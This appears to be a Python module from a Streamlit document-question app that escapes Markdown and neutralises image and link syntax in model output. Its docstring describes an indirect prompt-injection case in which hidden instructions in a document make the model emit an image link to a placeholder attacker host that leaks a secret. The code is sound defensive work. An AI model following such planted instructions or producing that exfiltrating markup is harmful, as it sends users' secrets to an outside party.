"""Rendering untrusted text (file names, passages, model output) safely."""

from __future__ import annotations

import re

_MARKDOWN_SPECIAL = re.compile(r"([\\`*_{}\[\]()#+\-.!|<>~$:])")


def escape_markdown(text: str) -> str:
    """Escape Markdown and HTML-significant characters so ``text`` shows literally.

    Streamlit renders Markdown in labels and ``st.markdown``; a file name such as
    ``**x**.pdf`` or ``<img>.pdf`` must show as typed.
    """
    return _MARKDOWN_SPECIAL.sub(r"\\\1", text)


class AnswerSanitizer:
    """Defuse images and links in model output, also when it arrives token by token.

    A document can carry hidden instructions that make the model answer with
    ``![](http://attacker/?d=secret)``; rendered as Markdown, the browser would fetch it
    (THREATS.md, indirect prompt injection). Escaping ``[`` after ``!`` and ``(`` after
    ``]`` turns image and inline-link syntax into plain text while citations such as
    ``[1]`` stay as they are. Raw HTML is not rendered by ``st.markdown`` (no
    ``unsafe_allow_html`` anywhere in this app).
    """

    def __init__(self) -> None:
        """Start with no previous character."""
        self._previous = ""

    def feed(self, token: str) -> str:
        """Return ``token`` with image and link openers escaped (state carries over)."""
        out: list[str] = []
        for char in token:
            if (char == "[" and self._previous == "!") or (char == "(" and self._previous == "]"):
                out.append("\\")
            out.append(char)
            self._previous = char
        return "".join(out)


def sanitize_answer(text: str) -> str:
    """Return model output safe to render as Markdown (see :class:`AnswerSanitizer`)."""
    return AnswerSanitizer().feed(text)
